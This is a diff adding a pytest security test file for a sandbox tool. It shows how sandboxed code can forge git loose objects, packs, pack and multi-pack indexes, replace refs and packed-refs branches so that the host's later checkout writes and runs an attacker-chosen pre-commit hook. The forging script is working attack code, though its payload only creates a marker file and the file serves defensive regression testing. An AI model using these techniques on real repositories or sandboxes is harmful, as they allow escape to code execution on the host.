@@ -1,0 +1,440 @@
+# SPDX-License-Identifier: MIT
+"""A protected path's tracked content, changed through the object store
+itself.
+
+A protected path (.husky/pre-commit under core.hooksPath = .husky, .envrc,
+.vscode/tasks.json, ...) stays read-only in the worktree, and githeads.c
+checks, when the sandbox has ended, that the index and the refs changed
+during the run hold at protected paths the same (path, mode, object id) as
+the host had at the start.  But the project is a write grant and its
+.git/objects is the sandbox's to write (gitview.c binds it writable): what
+git reads under an object's name is the sandbox's to choose, and git does
+not check a blob's content against its name when it checks one out, nor a
+tree's when it reads one beneath a commit.  The ids the check compares
+stay the host's; the content the host's next checkout writes at that path
+is the sandbox's: a hook the next `git commit` runs.
+
+Each test plants, from inside, objects (and in two, a ref in packed-refs),
+no worktree file; the sandbox's own git reading its hook under the host's
+object id (or path) is the control that the plant was made and is what git
+sees (the host's git reads the same store: what it reads is said when the
+test fails).  Then the host runs a git command a user runs (a new worktree,
+a look at an older commit and back, discarding an edit of its own,
+`git stash`, checking out a branch), then a commit, and the test asserts
+the host ran nothing (no mark).
+
+Holes (each FAILS on 63c961b, in every mode of the box fixture: root-ns,
+root-nons, user-ns, user-nons; githeads.c says nothing unless noted):
+  - test_forged_loose_blob_at_the_hosts_name: the loose file of the host's
+    blob at .husky/pre-commit replaced by one with other content; git reads
+    loose blobs unchecked: `git worktree add`, `git checkout HEAD~1` and
+    back, discarding an edit (`git checkout -- FILE`, `git stash`) write
+    the sandbox's hook;
+  - test_forged_blob_in_a_new_pack: a pack and .idx the sandbox wrote
+    itself (pack-objects would not make such a one) holding its content
+    under the host blob's id; git searches packs before loose objects, the
+    newest pack (by its mtime, the sandbox's to set) first: whether the
+    host's blob is loose or in the pack of the host's own `git gc`;
+  - test_pack_index_remapped: the repository packed by git itself
+    (pack-objects, the sandbox's blob with the host's objects), then the
+    pack's .idx rewritten so that the host blob's id gives the offset of
+    the sandbox's blob;
+  - test_multi_pack_index_remapped: objects/pack/multi-pack-index (read
+    by default, core.multiPackIndex, before each pack's own .idx) written
+    by `git multi-pack-index write`, then its offset table edited: the
+    host blob's id gives the sandbox's blob;
+  - test_forged_hooks_tree: the .husky tree beneath HEAD's root tree
+    rewritten under its own id (loose or packed) to name the sandbox's
+    blob; with the branch's file written again too, githeads.c reads the
+    commit but stops at .husky's id, the host's;
+  - test_replace_ref_in_packed_refs_for_the_hosts_blob: refs/replace/<the
+    host's blob> naming the sandbox's blob (git applies replacements to
+    blobs at checkout too), the ref in packed-refs only: githeads.c judges
+    it but undoes it by removing a loose file there is none of ("it could
+    NOT be set back");
+  - test_new_branch_in_packed_refs_with_no_ancestor_to_set_back_to: the
+    same for a new branch with the sandbox's hook and no parent: left in
+    packed-refs ("it could NOT be set back"); `git checkout` of it writes
+    the hook;
+  - test_object_planted_for_content_the_host_will_commit: a loose object
+    planted under the id of content the host predictably commits later (a
+    hook manager's default hook): git keeps an object it already has (it
+    only freshens its time), so the host's `git add` records the sandbox's
+    content, which its next checkout writes.
+Guard (passes on 63c961b): test_guard_replace_ref_for_the_hosts_blob, the
+replacement with a loose ref: removed at the end.
+
+What git does not fall for (no test: git's own checks, not ringfence's): a
+forged commit or root tree (git checks the hash of the object a revision
+names when it looks it up: "hash mismatch"; the repository's HEAD then no
+longer resolves, a denial of service only); a replacement of another type
+(a commit whose message is a script, for a blob: "unable to read sha1
+file" at checkout); a loose copy of a blob that is also packed (git reads
+the pack); a clone over the pack protocol (`git clone --no-local`:
+index-pack hashes what it receives).
+"""
+import os
+
+import pytest
+
+from test_hostfiles_attacks import GIT_ENV, TOUCH, chown_tree, host
+
+EVIL = "#!/bin/sh\n%s\n" % TOUCH
+
+# Run in the sandbox (cwd: the project): plants objects in .git/objects
+# under the names of the host's own, then prints "planted" if its git reads
+# the hook there.  argv[1] the
+# way, argv[2] the hook text (argv[3] the predicted text for "preplant").
+FORGE = r'''
+import binascii, hashlib, os, struct, subprocess, sys, zlib
+
+way, evil = sys.argv[1], sys.argv[2].encode()
+print("ran", flush=True)
+TYPES = {"commit": 1, "tree": 2, "blob": 3}
+for k in ("AUTHOR", "COMMITTER"):
+    os.environ["GIT_%s_NAME" % k], os.environ["GIT_%s_EMAIL" % k] = "t", "t@x"
+
+
+def git(*a, data=None):
+    r = subprocess.run(["git"] + list(a), input=data, capture_output=True)
+    if r.returncode:
+        sys.exit("git %s: %s" % (" ".join(a), r.stderr.decode()))
+    return r.stdout
+
+
+def rev(name):
+    return git("rev-parse", name).decode().strip()
+
+
+def replace_file(path, data):
+    tmp = path + ".rf-tmp"
+    with open(tmp, "wb") as f:
+        f.write(data)
+    os.replace(tmp, path)
+
+
+def loose(oid, typ, body):
+    """OID's loose file, holding BODY whatever its name says."""
+    d = os.path.join(".git/objects", oid[:2])
+    os.makedirs(d, exist_ok=True)
+    replace_file(os.path.join(d, oid[2:]),
+                 zlib.compress(b"%s %d\0" % (typ.encode(), len(body)) + body))
+
+
+def pack(objs):
+    """A pack and its version 2 .idx holding OBJS [(oid, type, body)] under
+    the names given, written by hand: pack-objects names what it packs by
+    its content."""
+    data = b"PACK" + struct.pack(">II", 2, len(objs))
+    ents = []
+    for oid, typ, body in objs:
+        off, n = len(data), len(body)
+        c, n = (TYPES[typ] << 4) | (n & 15), n >> 4
+        hdr = b""
+        while n:
+            hdr += bytes([c | 0x80])
+            c, n = n & 0x7f, n >> 7
+        rec = hdr + bytes([c]) + zlib.compress(body)
+        ents.append((bytes.fromhex(oid), binascii.crc32(rec), off))
+        data += rec
+    psum = hashlib.sha1(data).digest()
+    data += psum
+    ents.sort()
+    idx = b"\xfftOc" + struct.pack(">I", 2)
+    idx += b"".join(struct.pack(">I", sum(1 for e in ents if e[0][0] <= b)) for b in range(256))
+    idx += b"".join(e[0] for e in ents)
+    idx += b"".join(struct.pack(">I", e[1]) for e in ents)
+    idx += b"".join(struct.pack(">I", e[2]) for e in ents)
+    idx += psum
+    idx += hashlib.sha1(idx).digest()
+    base = ".git/objects/pack/pack-" + psum.hex()
+    replace_file(base + ".pack", data)
+    replace_file(base + ".idx", idx)
+    # git searches the newest pack first, by its time in seconds: the
+    # host's of the same second may come first
+    t = os.stat(base + ".pack").st_mtime + 3600
+    os.utime(base + ".pack", (t, t))
+
+
+def remap(buf, oids_at, n, offs_at, width, victim, donor):
+    """BUF's table of N sorted object ids at OIDS_AT, and of entries of
+    WIDTH bytes at OFFS_AT: VICTIM's entry made DONOR's."""
+    ids = [bytes(buf[oids_at + 20 * i:oids_at + 20 * i + 20]) for i in range(n)]
+    v, d = ids.index(bytes.fromhex(victim)), ids.index(bytes.fromhex(donor))
+    buf[offs_at + width * v:offs_at + width * (v + 1)] = \
+        buf[offs_at + width * d:offs_at + width * (d + 1)]
+
+
+blob = rev("HEAD:.husky/pre-commit") if way != "preplant" else None
+if way == "loose":
+    loose(blob, "blob", evil)
+elif way == "pack":
+    # every object, the host's blob's name given the sandbox's content: a
+    # command that read a commit from the host's own pack would find the
+    # blob there first (git searches the pack it last found one in first)
+    objs = []
+    for line in git("rev-list", "--objects", "--all").decode().splitlines():
+        oid = line[:40]
+        typ = git("cat-file", "-t", oid).decode().strip()
+        objs.append((oid, typ, evil if oid == blob else git("cat-file", typ, oid)))
+    pack(objs)
+elif way in ("idx", "midx"):
+    donor = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
+    # git's own pack of every object, the sandbox's blob with them
+    objs = git("rev-list", "--objects", "--all") + donor.encode() + b"\n"
+    git("pack-objects", "-q", ".git/objects/pack/pack", data=objs)
+    git("prune-packed")
+    pdir = ".git/objects/pack"
+    if way == "idx":
+        name = [n for n in os.listdir(pdir) if n.endswith(".idx")][0]
+        with open(os.path.join(pdir, name), "rb") as f:
+            buf = bytearray(f.read())
+        n = struct.unpack(">I", buf[8 + 255 * 4:8 + 256 * 4])[0]
+        oids_at = 8 + 256 * 4
+        remap(buf, oids_at, n, oids_at + 24 * n, 4, blob, donor)
+        replace_file(os.path.join(pdir, name), bytes(buf))
+    else:
+        git("multi-pack-index", "write")
+        path = os.path.join(pdir, "multi-pack-index")
+        with open(path, "rb") as f:
+            buf = bytearray(f.read())
+        chunks = {}
+        for i in range(buf[6]):
+            at = 12 + 12 * i
+            chunks[bytes(buf[at:at + 4])] = struct.unpack(">Q", buf[at + 4:at + 12])[0]
+        oids_at, offs_at = chunks[b"OIDL"], chunks[b"OOFF"]
+        n = struct.unpack(">I", buf[chunks[b"OIDF"] + 255 * 4:chunks[b"OIDF"] + 256 * 4])[0]
+        remap(buf, oids_at, n, offs_at, 8, blob, donor)
+        replace_file(path, bytes(buf))
+elif way.startswith("tree-"):
+    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
+    sub = rev("HEAD:.husky")
+    body = b"100755 pre-commit\0" + bytes.fromhex(e)
+    if way.startswith("tree-loose"):
+        loose(sub, "tree", body)
+    else:
+        pack([(sub, "tree", body)])
+    if way.endswith("-ref"):
+        # the branch's file written again, same commit: githeads.c then
+        # reads that commit's trees at the end
+        ref = git("symbolic-ref", "HEAD").decode().strip()
+        with open(os.path.join(".git", ref), "rb") as f:
+            replace_file(os.path.join(".git", ref), f.read())
+elif way in ("replace", "replace-packed"):
+    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
+    git("replace", "-f", blob, e)
+    if way == "replace-packed":
+        git("pack-refs", "--all")
+elif way == "orphan-packed":
+    e = git("hash-object", "-w", "--stdin", data=evil).decode().strip()
+    sub = git("mktree", data=b"100755 blob %s\tpre-commit\n" % e.encode()).decode().strip()
+    body = git("cat-file", "tree", "HEAD^{tree}")
+    at = body.index(b" .husky\0") + 8
+    root = git("hash-object", "-w", "-t", "tree", "--stdin",
+               data=body[:at] + bytes.fromhex(sub) + body[at + 20:]).decode().strip()
+    c = git("commit-tree", root, "-m", "lint config").decode().strip()
+    git("update-ref", "refs/heads/lint", c)
+    git("pack-refs", "--all")
+elif way == "preplant":
+    future = git("hash-object", "--stdin", data=sys.argv[3].encode()).decode().strip()
+    loose(future, "blob", evil)
+# the control: this git reads the sandbox's hook under the host's id (the
+# future one's; at HEAD's path; on the sandbox's branch)
+if way == "preplant":
+    name = future
+elif way.startswith("tree-"):
+    name = "HEAD:.husky/pre-commit"
+elif way == "orphan-packed":
+    name = "lint:.husky/pre-commit"
+else:
+    name = blob
+if git("cat-file", "-p", name) == evil:
+    print("planted", flush=True)
+'''
+
+# a hook text the host commits after the run: predictable (a hook
+# manager's default, as `husky init` writes "npm test")
+FUTURE = "#!/bin/sh\nexit 0\n"
+
+
+def project(box, packed=False, husky=True):
+    """The host's repository in the project: a first commit, then one that
+    adds .husky/pre-commit (core.hooksPath = .husky: protected); PACKED,
+    its objects packed by the host's own `git gc`.  Returns the host's
+    home and the hook's blob id."""
+    home = box.path("hosthome")
+    os.mkdir(home)
+    chown_tree(box, home)
+    h = host(box, ["sh", "-c",
+                   "git init -q && git config core.hooksPath .husky && echo x > f && "
+                   "git add f && git commit -qm first" +
+                   (" && mkdir .husky && printf '#!/bin/sh\\ntrue\\n' > .husky/pre-commit && "
+                    "chmod 755 .husky/pre-commit && git add -A && git commit -qm hooks && "
+                    "git rev-parse HEAD:.husky/pre-commit" if husky else "") +
+                   (" && git gc -q" if packed else "")],
+             home, cwd=box.work, env=GIT_ENV)
+    assert h.returncode == 0, h.stderr
+    return home, h.stdout.strip()
+
+
+def plant(box, home, way, *extra):
+    """The sandbox's run: FORGE's WAY, under default.ini."""
+    forge = box.write("bin/forge.py", FORGE)
+    r = box.run(["/usr/bin/python3", forge, way, EVIL] + list(extra),
+                policy=box.policy(""), env=dict(GIT_ENV, HOME=home))
+    assert "planted" in r.stdout.split(), r.stdout + r.stderr
+    return r
+
+
+def commit_after(box, home, op, name):
+    """The host's OP, then a commit (which runs .husky/pre-commit); the
+    mark must not be there.  What the host's git reads under NAME before
+    (the sandbox's hook, where ringfence let it be) said if it is."""
+    seen = host(box, ["git", "cat-file", "-p", name], home, cwd=box.work, env=GIT_ENV)
+    mark = os.path.join(home, "MARK")
+    assert not os.path.exists(mark)
+    h = host(box, ["sh", "-c", "%s && echo y >> f && git commit -qam second" % op], home,
+             cwd=box.work, env=GIT_ENV)
+    assert h.returncode == 0, h.stdout + h.stderr
+    assert not os.path.exists(mark), \
+        "the host's commit ran the hook the sandbox forged (git read %r under %s)" % (
+            seen.stdout + seen.stderr, name)
+
+
+# Host commands after which git writes .husky/pre-commit from its object
+# (then the commit runs it from the directory the command leaves).
+REWRITE = {
+    # a second worktree for a branch (then committed there)
+    "worktree": "git worktree add -q \"$HOME/wt\" -b topic && cd \"$HOME/wt\"",
+    # a look at an older commit (before the hooks were added), and back
+    "checkout-back": "git checkout -q HEAD~1 && git checkout -q -",
+    # an edit of its own to the hook, discarded
+    "discard-edit": "echo '# tweak' >> .husky/pre-commit && git checkout -- .husky/pre-commit",
+    # the same, stashed away
+    "stash-edit": "echo '# tweak' >> .husky/pre-commit && git stash -q",
+}
+
+
+@pytest.mark.parametrize("op", sorted(REWRITE))
+def test_forged_loose_blob_at_the_hosts_name(box, op):
+    """Hole: the host's blob at .husky/pre-commit is a loose object (as
+    every commit writes one); the sandbox replaces its file (the directory
+    objects/xx is its to write) with other content under the same name.
+    The index and HEAD say the same id as at the start: githeads.c finds
+    nothing changed.  Every host command that writes the file from its
+    object writes the sandbox's hook."""
+    home, blob = project(box)
+    plant(box, home, "loose")
+    with open(os.path.join(box.work, ".husky", "pre-commit")) as f:
+        assert "MARK" not in f.read()
+    op = REWRITE[op]
+    commit_after(box, home, op, blob)
+
+
+@pytest.mark.parametrize("packed", [False, True], ids=["host-loose", "host-packed"])
+def test_forged_blob_in_a_new_pack(box, packed):
+    """Hole: a pack and its .idx written by the sandbox, holding its hook
+    under the id of the host's blob.  git looks in packs before loose
+    objects, the newest pack first: whether the host's blob is loose or in
+    the pack of the host's own `git gc`, the sandbox's content is what git
+    reads, and a new worktree gets it."""
+    home, blob = project(box, packed=packed)
+    plant(box, home, "pack")
+    commit_after(box, home, REWRITE["worktree"], blob)
+
+
+def test_pack_index_remapped(box):
+    """Hole: the sandbox repacks the repository (`git repack -ad`: its
+    own blob with the host's objects) and rewrites the pack's .idx so that
+    the host blob's id gives the offset of the sandbox's blob.  Nothing
+    githeads.c compares changed."""
+    home, blob = project(box)
+    plant(box, home, "idx")
+    commit_after(box, home, REWRITE["checkout-back"], blob)
+
+
+def test_multi_pack_index_remapped(box):
+    """Hole: objects/pack/multi-pack-index, which git 2.39 reads by default
+    (core.multiPackIndex) before each pack's own .idx, written by the
+    sandbox (`git multi-pack-index write`) and then its offset table
+    edited: the host blob's id gives the sandbox's blob.  The packs and
+    their indexes are git's own."""
+    home, blob = project(box)
+    plant(box, home, "midx")
+    commit_after(box, home, REWRITE["worktree"], blob)
+
+
+@pytest.mark.parametrize("way", ["tree-loose", "tree-pack", "tree-loose-ref", "tree-pack-ref"])
+def test_forged_hooks_tree(box, way):
+    """Hole: the tree HEAD's root tree names at .husky rewritten under its
+    own id to name the sandbox's blob at pre-commit (HEAD's commit and root
+    tree stay: git checks the hash of an object it looks a revision up by,
+    not of a tree it reads beneath one).  The index's cache tree names the
+    same tree, so `git status` shows nothing; a new worktree (its index
+    made from HEAD's trees) gets the sandbox's hook.  githeads.c reads
+    HEAD's commit again only when a ref or HEAD changed: it says nothing.
+    With the branch's file written again (-ref, the same commit), it reads
+    the commit's trees down to .husky, finds there the host's id, and
+    stops: it says nothing either."""
+    home, _ = project(box)
+    plant(box, home, way)
+    commit_after(box, home, REWRITE["worktree"], "HEAD:.husky/pre-commit")
+
+
+def test_guard_replace_ref_for_the_hosts_blob(box):
+    """Guard (passes on 63c961b): refs/replace/<the host's blob id> naming
+    the sandbox's blob (`git replace`).  git applies a replacement to every
+    object it reads, a blob at checkout included (the sandbox's own git
+    reads its hook under the host's id: the control); githeads.c takes the
+    new ref for one that must name a commit passing the check, and removes
+    it.  (A replacement of another type, a commit whose message is a
+    script, git itself refuses at checkout: "unable to read sha1 file".)"""
+    home, blob = project(box)
+    plant(box, home, "replace")
+    commit_after(box, home, REWRITE["worktree"], blob)
+
+
+def test_replace_ref_in_packed_refs_for_the_hosts_blob(box):
+    """Hole: the replacement of the test above, its ref in packed-refs only
+    (`git pack-refs --all`).  githeads.c finds the new line and judges it,
+    but it undoes a ref it cannot set back by removing its loose file: there
+    is none, the line stays ("it could NOT be set back"), and git reads the
+    sandbox's blob for the host's at every checkout."""
+    home, blob = project(box)
+    plant(box, home, "replace-packed")
+    commit_after(box, home, REWRITE["worktree"], blob)
+
+
+def test_new_branch_in_packed_refs_with_no_ancestor_to_set_back_to(box):
+    """Hole: the same for a branch: a new one (`lint`), only in
+    packed-refs, whose commit has the sandbox's .husky/pre-commit and no
+    parent.  githeads.c judges it, finds no ancestor to set it back to,
+    removes no loose file (there is none): the branch stays, and the
+    host's `git checkout lint` writes the hook (a warning said it)."""
+    home, _ = project(box)
+    r = plant(box, home, "orphan-packed")
+    assert "refs/heads/lint" in r.stderr, r.stderr
+    # the host checks the branch out if it is there
+    commit_after(box, home, "{ ! git rev-parse -q --verify lint || git checkout -q lint; }",
+                 "lint:.husky/pre-commit")
+
+
+def test_object_planted_for_content_the_host_will_commit(box):
+    """Hole: nothing at .husky during the run (the repository's hooks path
+    is set, the hook not yet written).  The sandbox writes a loose object
+    under the id of the hook the host predictably commits later (a hook
+    manager's default hook), with its own content.  git does not write an
+    object it already has, it only freshens its time: the host's
+    `git add` records the sandbox's object, and its next checkout of that
+    commit (here a second worktree) writes the sandbox's hook.  No check at
+    the end of the run can see it: the host has not made that commit
+    yet."""
+    home, _ = project(box, husky=False)
+    r = plant(box, home, "preplant", FUTURE)
+    with open(box.path("future"), "w") as f:
+        f.write(FUTURE)
+    h = host(box, ["sh", "-c", "mkdir .husky && cp %s .husky/pre-commit && "
+                   "chmod 755 .husky/pre-commit && git add .husky && git commit -qm hooks"
+                   % box.path("future")], home, cwd=box.work, env=GIT_ENV)
+    assert h.returncode == 0, h.stdout + h.stderr + r.stderr
+    commit_after(box, home, REWRITE["worktree"], "HEAD:.husky/pre-commit")
